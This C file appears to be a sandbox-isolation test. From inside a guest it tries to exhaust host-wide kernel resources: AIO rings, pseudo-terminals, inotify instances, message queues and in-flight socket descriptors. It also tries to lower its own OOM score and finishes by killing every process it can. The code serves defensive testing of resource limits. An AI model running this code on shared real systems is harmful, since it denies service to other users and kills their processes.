// machine: it looks at the machine's own quotas in /proc
// Takes all that it can of what the kernel counts for the user or for the whole machine, and of being spared where memory runs out.
#include "attack.h"
#include <linux/aio_abi.h>
#include <mqueue.h>
#include <sys/inotify.h>

static long kernel_number(const char *path) {
  char text[32] = "";
  int fd = open(path, O_RDONLY);
  NEEDS(fd >= 0 && read(fd, text, sizeof text - 1) > 0);
  close(fd);
  return atol(text);
}

// All that one message takes (SCM_MAX_FD).
static long send_descriptors(int socket, int flags) {
  enum { COUNT = 253 };
  union {
    struct cmsghdr header;
    char bytes[CMSG_SPACE(COUNT * sizeof(int))];
  } control = {.header = {CMSG_LEN(COUNT * sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
  for (int i = 0; i < COUNT; i++) ((int *)CMSG_DATA(&control.header))[i] = 0;
  struct iovec data = {"x", 1};
  struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = CMSG_LEN(COUNT * sizeof(int))};
  return sendmsg(socket, &message, flags);
}

// Senders that wait for room have been let through: more are then in flight than anybody may have.
static void fill_flight(void) {
  int pair[2];
  NEEDS(socketpair(AF_UNIX, SOCK_DGRAM, 0, pair) == 0);
  while (send_descriptors(pair[0], MSG_DONTWAIT) >= 0) {
  }
  for (int i = 0; i < 40; i++)
    if (fork() == 0) {
      alarm(20);
      send_descriptors(pair[0], 0);
      pause();
    }
  usleep(100000);
  for (int sockets = 0; sockets < 400; sockets++) {
    int other[2];
    if (socketpair(AF_UNIX, SOCK_DGRAM, 0, other)) break;
    while (send_descriptors(other[0], MSG_DONTWAIT) >= 0) {
    }
    if (errno == ETOOMANYREFS) break;
  }
  char byte;
  while (recv(pair[1], &byte, 1, MSG_DONTWAIT) >= 0) usleep(1000);
  // Each is in a directory that was not looked at before; the answer may be an error, and must come.
  for (const char *const *path = (const char *const[]){"/etc/passwd", "/usr/bin/env", "/usr/lib/os-release", NULL}; *path; path++)
    close(open(*path, O_RDONLY));
  IN_CHILD execl("/bin/true", "true", NULL);
  if (child_status) escaped("nothing runs any more: %#x", child_status);
}

static void ask_to_be_spared(void) {
  long before = kernel_number("/proc/self/oom_score_adj");
  const char *files[] = {"/proc/self/oom_score_adj", "/proc/self/oom_adj", "/proc/thread-self/oom_score_adj"};
  for (int i = 0; i < 3; i++)
    for (const int *flags = (const int[]){O_WRONLY, O_RDWR, O_WRONLY | O_TRUNC, -1}; *flags >= 0; flags++) {
      int fd = open(files[i], *flags);
      char again[32];
      snprintf(again, sizeof again, "/proc/self/fd/%d", fd);
      if (fd >= 0 && write(fd, "0", 1) < 0) write(open(again, O_RDWR), "0", 1);
      close(fd);
    }
  if (kernel_number("/proc/self/oom_score_adj") < before) escaped("the guest outlives the host's programs");
}

int main(void) {
  struct rlimit limit;
  NEEDS(getrlimit(RLIMIT_NOFILE, &limit) == 0);
  limit.rlim_cur = limit.rlim_max;
  NEEDS(setrlimit(RLIMIT_NOFILE, &limit) == 0);

  // Rings of several threads at once; what a process gives back others may take.
  for (int i = 0; i < 8; i++)
    if (fork() == 0) {
      for (unsigned size = 8192; size > 0; size /= 2) {
        aio_context_t ring = 0;
        while (syscall(SYS_io_setup, size, &ring) == 0) ring = 0;
      }
      pause();
    }
  for (double end = now() + 5; now() < end && kernel_number("/proc/sys/fs/aio-nr") < kernel_number("/proc/sys/fs/aio-max-nr") / 2 - 8;)
    usleep(10000);
  if (kernel_number("/proc/sys/fs/aio-nr") > kernel_number("/proc/sys/fs/aio-max-nr") / 2) escaped("no request is left for the host");
  IN_CHILD {
    int count = 0;
    while (posix_openpt(O_RDWR | O_NOCTTY) >= 0) count++;
    if (count > 512) escaped("%d terminals", count);
  }
  IN_CHILD {
    int count = 0;
    while (inotify_init1(0) >= 0) count++;
    long most = kernel_number("/proc/sys/fs/inotify/max_user_instances");
    if (count > most / 2) escaped("%d of %ld instances of inotify", count, most);
  }
  IN_CHILD {
    // As the kernel counts it: two pointers a message and its text (mq_overview(7)).
    struct mq_attr attributes = {.mq_maxmsg = 1, .mq_msgsize = 64};
    char name[32];
    long bytes = 0;
    for (int i = 0; i < 100000; i++, bytes += 64) {
      snprintf(name, sizeof name, "/quota%d", i);
      if (mq_open(name, O_CREAT | O_RDWR, 0600, &attributes) < 0) break;
    }
    getrlimit(RLIMIT_MSGQUEUE, &limit);
    if (bytes > (long)limit.rlim_max) escaped("%ld bytes of message queues", bytes);
  }
  ask_to_be_spared();
  fill_flight();
  // The run ends with the last of them.
  kill(-1, SIGKILL);
  return verdict();
}
